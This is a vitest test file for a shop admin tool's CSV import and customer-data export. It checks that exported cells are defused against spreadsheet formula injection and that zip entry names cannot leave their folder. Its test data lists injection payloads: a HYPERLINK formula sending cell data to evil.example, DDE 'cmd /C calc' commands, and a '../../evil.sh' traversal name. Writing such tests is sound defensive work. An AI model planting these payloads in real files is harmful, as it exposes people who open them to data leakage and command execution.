import { spawnSync } from "node:child_process";
import { mkdtempSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { Uint8ArrayReader, Uint8ArrayWriter, ZipReader } from "@zip.js/zip.js";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import { expect, inject, test, vi } from "vitest";
import { asForm } from "@/test/harness/form";
import { openBrowser } from "@/test/harness/http-browser";
import { createMerchant, signInMerchant } from "@/test/harness/merchants";
import { query } from "@/test/harness/postgres";
import { createStores } from "@/test/harness/stores";

const { origin, databaseUrl } = inject("app");
const stores = await createStores(databaseUrl, 2, "sheets");
const [store, other] = stores;
if (!store || !other) throw new Error("no store");
const folder = mkdtempSync(path.join(os.tmpdir(), "dossier-sheets-"));

/** What Excel and LibreOffice run, or read as the beginning of a cell or row. */
const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＠SUM(1)",
  'a";=1+1;"',
  "a;=1+1",
  "a\t=1+1",
  "a\n=1+1\nb",
  '"=1+1"',
  "../../evil.sh",
  "CON",
  "\u202e=1+1",
  "\ufeff=1+1",
  "\u00a0=1+1",
  "  =1+1",
  "|=1+1",
];

/** The admin program's import, as an operator runs it. */
function runImport(slug: string, kind: "customers" | "orders", content: string | Buffer) {
  const file = path.join(folder, `${kind}.csv`);
  writeFileSync(file, content);
  const start = performance.now();
  const { status, stdout, stderr } = spawnSync(
    process.execPath,
    ["build/admin.mjs", "import", "--store", slug, `--${kind}`, file],
    { encoding: "utf8", env: { PATH: process.env.PATH, DATABASE_URL: databaseUrl, NODE_ENV: "production" } },
  );
  return { status, output: stdout + stderr, milliseconds: performance.now() - start };
}

const customerColumns = ["Customer ID", "First Name", "Last Name", "Email", "Accepts Email Marketing"];
/** @param rows id, names, email, phone, note, tags. */
const customers = (rows: string[][]) =>
  stringify([
    [...customerColumns, "Phone", "Note", "Tags"],
    ...rows.map((cells) => [...cells.slice(0, 4), "yes", ...cells.slice(4)]),
  ]);
const orderColumns = [
  ...["Name", "Email", "Financial Status", "Currency", "Subtotal", "Shipping", "Taxes", "Total", "Created at"],
  ...["Lineitem quantity", "Lineitem name", "Lineitem price", "Billing Name", "Notes", "Id"],
];
const order = (cells: Partial<Record<string, string>>) => {
  const known: Partial<Record<string, string>> = {
    ...{ Name: "#1", Email: "reader@mail.example", "Financial Status": "paid", Currency: "EUR", Subtotal: "1.00" },
    ...{ Shipping: "0.00", Taxes: "0.00", Total: "1.00", "Created at": "2026-01-02 03:04:05 +0100", Id: "500" },
    ...{ "Lineitem quantity": "1", "Lineitem name": "Pen", "Lineitem price": "1.00", ...cells },
  };
  return orderColumns.map((column) => known[column] ?? "");
};

test("no cell of an export is a formula, and no name in its zip leaves its folder", async () => {
  const reader = ["1", ...formulas.slice(0, 2), "reader@mail.example", "", formulas.join(" | "), "=1+1"];
  const imported = runImport(store.slug, "customers", customers([reader]));
  expect(imported.output).toContain("1 added");
  const lines = formulas.map((formula, index) =>
    order({
      Name: `#${index + 1}`,
      Id: String(500 + index),
      "Lineitem name": formula,
      Notes: formula,
      "Billing Name": formula,
    }),
  );
  expect(runImport(store.slug, "orders", stringify([orderColumns, ...lines])).output).toContain("orders");
  const [customer] = await query<{ id: string }>(
    databaseUrl,
    "SELECT id FROM customer WHERE store_id = $1 AND email IS NOT NULL LIMIT 1",
    [store.id],
  );
  if (!customer) throw new Error("no customer was imported");
  const archive = await exportOf(customer.id);
  const entries = await new ZipReader(new Uint8ArrayReader(archive)).getEntries();
  const names = entries.map(({ filename }) => filename);
  expect(names).toContain("csv/order-lines.csv");
  for (const name of names) {
    expect(name).toMatch(/^(?:[a-z0-9][a-z0-9-]*\/)?[a-z0-9][a-z0-9-]*\.(?:csv|html|json)$/);
    expect(name).not.toMatch(/(?:^|\/)(?:con|prn|aux|nul|com\d|lpt\d)\./i);
  }
  let defused = 0;
  for (const entry of entries.filter(({ filename }) => filename.endsWith(".csv"))) {
    if (!("getData" in entry) || !entry.getData) throw new Error(`${entry.filename} holds nothing`);
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await entry.getData(new Uint8ArrayWriter()));
    // As a spreadsheet reads it that splits at commas, semicolons or tabs.
    for (const delimiter of [",", ";", "\t"]) {
      const rows = parse(text, { bom: true, delimiter, relax_quotes: true, relax_column_count: true });
      for (const cell of rows.flat() as string[]) {
        // Split at the wrong character, a quote at a cell's beginning may be one that a spreadsheet removes.
        const shown = delimiter === "," ? cell : cell.replace(/^"/, "");
        expect(shown, `${entry.filename} at ${delimiter}`).not.toMatch(
          /^(?:[\s\p{Cf}|]*[=+@＝＋－＠]|[\t\r]|[\s\p{Cf}|]*-(?!\d+(?:\.\d+)?$))/u,
        );
        if (cell.startsWith("'")) defused++;
      }
    }
  }
  expect(defused).toBeGreaterThan(formulas.length);
}, 300_000);

test.each([
  ["cut off in a cell", () => `${customers([["1", "Ann", "Ames", "a@mail.example", "", "x", ""]]).slice(0, -5)}"open`],
  ["of a cell of nine megabytes", () => customers([["1", "x".repeat(9_000_000), "", "a@mail.example", "", "", ""]])],
  ["of NUL", () => customers([["1", "A\u0000nn", "", "a@mail.example", "", "\u0000", ""]]).replace("Tags", "T\0")],
  ["in another encoding", () => Buffer.from(customers([["1", "Ann", "Amés", "a@mail.example", "", "", ""]]), "latin1")],
  ["of random bytes", () => Buffer.from(Array.from({ length: 200_000 }, (_, index) => (index * 7919) % 251))],
  [
    "of columns that are prototypes",
    () =>
      customers([["__proto__", "constructor", "toString", "a@mail.example", "", "", ""]]).replace("Tags", "__proto__"),
  ],
  ["of a million quotes", () => `${customers([])}${'"'.repeat(1_000_000)}`],
])(
  "a file %s is read or refused with a message, never with a stack trace",
  async (_, content) => {
    const { output, milliseconds } = runImport(other.slug, "customers", content());
    expect(output).not.toMatch(/\n\s+at |Error:|node:internal/);
    expect(output.trim()).not.toBe("");
    expect(milliseconds).toBeLessThan(60_000);
  },
  120_000,
);

test("a file with a byte order mark and an order of ten thousand lines is read completely", async () => {
  // As Shopify writes it: an order's later lines repeat its name and leave the order's own columns blank.
  const blank = Object.fromEntries(["Id", "Currency", "Total", "Subtotal", "Created at"].map((column) => [column, ""]));
  const lines = Array.from({ length: 10_000 }, (_, index) =>
    order({ "Lineitem name": `Pen ${index}`, ...(index > 0 && blank) }),
  );
  const { status, output } = runImport(other.slug, "orders", `\ufeff${stringify([orderColumns, ...lines])}`);
  expect(status, output).toBe(0);
  const [counted] = await query<{ count: number }>(
    databaseUrl,
    "SELECT count(*)::int AS count FROM order_line WHERE store_id = $1",
    [other.id],
  );
  expect(counted?.count).toBe(10_000);
}, 120_000);

/** The archive of a customer's data, as staff download it. */
async function exportOf(customerId: string): Promise<Uint8Array> {
  const merchant = await createMerchant(databaseUrl, {
    store: stores[0] ?? fail(),
    role: "staff",
    email: "sheets@shop.example",
  });
  const browser = openBrowser({ origin, address: "203.0.113.70" });
  await signInMerchant(browser, merchant);
  const profile = `/dashboard/${store?.slug}/customers/${customerId}`;
  await browser.post(
    asForm(await browser.form(`${profile}?dialog=request-data`, "customer"), { customer: customerId }),
  );
  const ready = await vi.waitFor(
    async () => {
      const [row] = await query<{ id: string }>(
        databaseUrl,
        "SELECT id FROM export WHERE store_id = $1 AND state = 'ready'",
        [store?.id],
      );
      if (!row) throw new Error("the export is not ready");
      return row;
    },
    { timeout: 60_000, interval: 100 },
  );
  const answer = await fetch(`${origin}/api/stores/${store?.slug}/exports/${ready.id}/archive`, {
    headers: { cookie: browser.cookieHeader() },
  });
  expect(answer.status).toBe(200);
  return new Uint8Array(await answer.arrayBuffer());
}

function fail(): never {
  throw new Error("no store");
}
